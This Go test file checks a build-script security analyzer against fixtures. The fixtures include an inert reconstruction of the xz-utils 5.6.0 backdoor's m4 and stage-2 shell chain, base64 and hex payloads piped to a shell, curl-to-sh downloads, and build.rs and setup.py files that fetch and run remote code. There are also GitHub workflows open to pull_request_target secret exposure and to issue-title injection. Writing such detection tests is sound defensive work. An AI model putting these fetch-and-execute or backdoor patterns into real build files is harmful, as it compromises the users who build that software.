package buildscript

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/doorman-sec/doorman/analyzer"
	"github.com/doorman-sec/doorman/analyzer/analyzertest"
	"github.com/doorman-sec/doorman/finding"
)

var as = []*analyzer.Analyzer{Analyzer}

func sevOf(r *finding.Report, rule, path string) finding.Severity {
	var s finding.Severity
	for _, f := range analyzertest.Find(r, rule, path) {
		s = max(s, f.Severity)
	}
	return s
}

// The structure of xz-utils 5.6.0's m4/build-to-host.m4 (refXZ, refXZGist),
// with the payload file name and markers made inert.
const xzM4 = `dnl build-to-host.m4 serial 30
AC_DEFUN([gl_BUILD_TO_HOST],
[
  gl_sed_double_backslashes='s/\\/\\\\/g'
  if test "x$gl_am_configmake" != "x"; then
    gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
  else
    gl_[$1]_config=''
  fi
])
AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  gl_path_map='tr "\t \-_" " \t_\-"'
  gl_am_configmake=` + "`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`" + `
])
`

// The second stage's shape: decompress a test file, slice it, eval it.
const xzStage2 = `#!/bin/sh
eval $zrKcVq
if test -f tests/files/good-large_compressed.lzma; then
xz -dc $top_srcdir/tests/files/good-large_compressed.lzma | eval $i | tail -c +31233 | tr "\114-\321\322-\377" "\0-\321" | xz -F raw --lzma1 -dc | /bin/sh
fi
`

func TestXZPattern(t *testing.T) {
	rep := analyzertest.Scan(t, as, map[string]string{
		"xz-5.6.0/m4/build-to-host.m4": xzM4,
		"xz-5.6.0/build-aux/stage2.sh": xzStage2,
		"xz-5.6.0/tests/files/bad.xz":  "inert\n",
		"clean/m4/build-to-host.m4":    "AC_DEFUN([gl_BUILD_TO_HOST],\n[\n  gl_sed_double_backslashes='s/\\\\/\\\\\\\\/g'\n  eval \"$1_c=\\\"\\$$1\\\"\"\n])\n",
		"clean/Makefile.am":            "check-local:\n\txz -dc $(srcdir)/tests/files/good-1.xz > /dev/null\n\thead -c 16 out.bin | od -c\n",
	})
	m4 := analyzertest.Find(rep, ruleExtract, "m4/build-to-host.m4")
	if len(m4) != 1 || m4[0].Severity != finding.Critical || m4[0].Location.Line != 6 {
		t.Errorf("xz m4: %+v", m4)
	}
	if s := sevOf(rep, ruleExtract, "stage2.sh"); s != finding.Critical {
		t.Errorf("stage 2: %v", s)
	}
	for _, f := range rep.Findings {
		if strings.Contains(f.Location.Path, "clean/") {
			t.Errorf("near-miss flagged: %s %s %s", f.Location.Path, f.Rule, f.Evidence)
		}
	}
}

func TestObfuscatedAndDownloads(t *testing.T) {
	hex := strings.Repeat(`\x65\x63\x68\x6f`, 8)
	rep := analyzertest.Scan(t, as, map[string]string{
		"a/configure.ac":  "AC_INIT([x],[1])\neval \"$(echo ZWNobyBoaQo= | base64 -d)\"\n",
		"b/autogen.sh":    "#!/bin/sh\nprintf '" + hex + "' | sh\n",
		"c/Makefile":      "deps:\n\tcurl -fsSL http://example.com/install.sh | sh\n",
		"g/Makefile":      "lint:\n\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- v1.55.2\n",
		"i/Makefile.in":   "distcheck: dist\n\tcase '$(DIST_ARCHIVES)' in \\\n\t*.tar.xz*) \\\n\t  xz -dc $(distdir).tar.xz | $(am__untar) ;;\\\n\tesac\n\teval GZIP= gzip -dc $(distdir).tar.gz | $(am__untar)\n",
		"h/Makefile":      "lint:\n\t$(warning \"could not find golangci-lint, run: curl -sfL https://install.example.com/golangci-lint.sh | sh\")\n\t@echo 'install with: curl -sfL http://example.com/x.sh | sh'\n",
		"d/Makefile":      "deps:\n\tcurl -fsSL -o tool.sh https://example.com/tool.sh\n\tsh tool.sh\n",
		"e/Makefile":      "deps:\n\tcurl -fsSL -o tool.sh https://example.com/tool.sh\n\techo \"0000  tool.sh\" | sha256sum -c\n\tsh tool.sh\n",
		"f/Makefile":      "docs:\n\tcurl -fsSL -o spec.html https://example.com/spec.html\n\tbase64 -d logo.b64 > logo.png\n",
		"docs/x/Makefile": "deps:\n\tcurl -fsSL http://example.com/install.sh | sh\n",
	})
	if sevOf(rep, ruleObfus, "a/configure.ac") != finding.High || sevOf(rep, ruleObfus, "b/autogen.sh") != finding.High {
		t.Errorf("obfuscation: %v", analyzertest.Rules(rep))
	}
	if sevOf(rep, ruleCurlSh, "c/Makefile") != finding.High || sevOf(rep, ruleCurlSh, "d/Makefile") != finding.High {
		t.Errorf("downloads: %v", analyzertest.Rules(rep))
	}
	if len(analyzertest.Find(rep, "", "e/Makefile"))+len(analyzertest.Find(rep, "", "f/Makefile")) != 0 {
		t.Errorf("verified download or plain fetch flagged")
	}
	// An installer over HTTPS from a named host is the host owner's risk:
	// medium. A hint printed to the user runs nothing.
	if sevOf(rep, ruleCurlSh, "g/Makefile") != finding.Medium {
		t.Errorf("https installer: %v", sevOf(rep, ruleCurlSh, "g/Makefile"))
	}
	if n := len(analyzertest.Find(rep, "", "i/Makefile.in")); n != 0 {
		t.Errorf("automake's distcheck rule flagged %d times", n)
	}
	if n := len(analyzertest.Find(rep, "", "h/Makefile")); n != 0 {
		t.Errorf("a printed hint flagged %d times", n)
	}
	if sevOf(rep, ruleCurlSh, "docs/x/Makefile") != finding.Medium {
		t.Errorf("docs Makefile should be lowered to medium: %v", sevOf(rep, ruleCurlSh, "docs/x/Makefile"))
	}
}

func TestCMakeBuildRSSetupPy(t *testing.T) {
	rep := analyzertest.Scan(t, as, map[string]string{
		"a/CMakeLists.txt": "include(ExternalProject)\nExternalProject_Add(zlib\n  URL https://example.com/zlib-1.3.tar.gz\n)\nfile(DOWNLOAD http://example.com/x.cmake ${CMAKE_BINARY_DIR}/x.cmake)\n",
		"b/CMakeLists.txt": "ExternalProject_Add(zlib\n  URL https://example.com/zlib-1.3.tar.gz\n  URL_HASH SHA256=" + strings.Repeat("0", 64) + "\n)\nfile(DOWNLOAD https://example.com/x.cmake x.cmake EXPECTED_HASH SHA256=" + strings.Repeat("1", 64) + ")\nFetchContent_Declare(fmt GIT_REPOSITORY https://github.com/fmtlib/fmt GIT_TAG 0123456789abcdef0123456789abcdef01234567)\n",
		"c/build.rs":       "fn main() {\n    let body = reqwest::blocking::get(\"https://example.com/tool\").unwrap().bytes().unwrap();\n    std::fs::write(\"tool\", &body).unwrap();\n    std::process::Command::new(\"./tool\").status().unwrap();\n}\n",
		"d/build.rs":       "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    cc::Build::new().file(\"src/a.c\").compile(\"a\");\n    std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().unwrap();\n}\n",
		"e/setup.py":       "import urllib.request\nfrom setuptools import setup\nexec(urllib.request.urlopen('https://example.com/x.py').read())\nsetup(name='x')\n",
		"f/setup.py":       "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['make', '-C', 'native'])\nsetup(name='x', url='https://example.com/x')\n",
	})
	if sevOf(rep, ruleCMakeDL, "a/CMakeLists.txt") != finding.High || len(analyzertest.Find(rep, ruleCMakeDL, "a/CMakeLists.txt")) != 2 {
		t.Errorf("cmake: %v", analyzertest.Rules(rep))
	}
	if len(analyzertest.Find(rep, "", "b/CMakeLists.txt")) != 0 {
		t.Errorf("cmake with hashes flagged")
	}
	if sevOf(rep, ruleBuildRS, "c/build.rs") != finding.High || sevOf(rep, ruleSetupPy, "e/setup.py") != finding.High {
		t.Errorf("build.rs/setup.py: %v", analyzertest.Rules(rep))
	}
	if len(analyzertest.Find(rep, "", "d/build.rs"))+len(analyzertest.Find(rep, "", "f/setup.py")) != 0 {
		t.Errorf("clean build.rs/setup.py flagged")
	}
}

func TestWorkflows(t *testing.T) {
	pwn := `name: ci
on:
  pull_request_target:
    types: [opened, synchronize]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
`
	label := `on: pull_request_target
permissions:
  pull-requests: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9
      - uses: actions/checkout@v4
      - run: echo "base branch only"
`
	inject := `on:
  issues:
    types: [opened]
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New issue ${{ github.event.issue.title }}"
      - uses: someone/some-action@v1
      - uses: someone/pinned-action@8558fd74291d67161a8a78ce36a881fa63b766a9
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "New issue $TITLE"
`
	rep := analyzertest.Scan(t, as, map[string]string{
		".github/workflows/pwn.yml":     pwn,
		".github/workflows/label.yml":   label,
		".github/workflows/triage.yaml": inject,
	})
	p := analyzertest.Find(rep, rulePwnReq, "pwn.yml")
	if len(p) != 1 || p[0].Severity != finding.High || p[0].Location.Line != 12 {
		t.Errorf("pwn request: %+v", p)
	}
	if len(analyzertest.Find(rep, "", "label.yml")) != 0 {
		t.Errorf("label-only pull_request_target flagged: %v", analyzertest.Rules(rep))
	}
	inj := analyzertest.Find(rep, ruleInjection, "triage.yaml")
	if len(inj) != 1 || inj[0].Severity != finding.High || inj[0].Location.Line != 8 {
		t.Errorf("injection: %+v", inj)
	}
	pins := analyzertest.Find(rep, ruleTagPin, "triage.yaml")
	if len(pins) != 1 || pins[0].Severity != finding.Info {
		t.Errorf("tag pin: %+v", pins)
	}
}

// A configure script generated by autoconf is full of eval, sed and tr and
// must stay quiet; so must the m4 files Debian ships.
func TestRealAutotoolsQuiet(t *testing.T) {
	if _, err := exec.LookPath("autoconf"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("autoconf missing (apt-get install -y autoconf automake)")
		}
		t.Skip("autoconf not installed")
	}
	dir := t.TempDir()
	ac := "AC_INIT([demo],[1.0])\nAC_CONFIG_SRCDIR([demo.c])\nAC_PROG_CC\nAC_CHECK_HEADERS([stdint.h unistd.h])\nAC_CHECK_FUNCS([strdup])\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n"
	os.WriteFile(filepath.Join(dir, "configure.ac"), []byte(ac), 0o644)
	os.WriteFile(filepath.Join(dir, "demo.c"), []byte("int main(void){return 0;}\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "Makefile.in"), []byte("all:\n\t@CC@ -o demo demo.c\n"), 0o644)
	cmd := exec.Command("autoconf")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("autoconf: %v\n%s", err, out)
	}
	rep := analyzertest.ScanPath(t, as, dir)
	for _, f := range rep.Findings {
		t.Errorf("generated configure flagged: %s line %d %s", f.Rule, f.Location.Line, f.Evidence)
	}
	if _, err := os.Stat("/usr/share/aclocal"); err == nil {
		rep := analyzertest.ScanPath(t, as, "/usr/share/aclocal")
		for _, f := range rep.Findings {
			t.Errorf("Debian aclocal flagged: %s %s line %d %s", f.Location.Path, f.Rule, f.Location.Line, f.Evidence)
		}
	}
}
